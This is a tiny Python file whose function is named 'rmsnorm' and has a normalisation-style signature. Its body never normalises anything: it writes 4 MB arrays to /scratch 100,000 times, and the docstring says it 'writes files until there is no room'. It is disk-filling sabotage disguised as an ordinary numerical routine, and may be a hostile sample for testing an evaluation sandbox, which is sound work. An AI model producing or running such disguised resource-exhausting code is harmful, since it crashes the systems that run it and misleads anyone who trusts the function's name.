"""Writes files until there is no room."""

import numpy


def rmsnorm(x, weight, out, eps):
    block = numpy.zeros(1 << 20, dtype=numpy.float32)
    for number in range(100000):
        numpy.save(f"/scratch/{number}.npy", block)
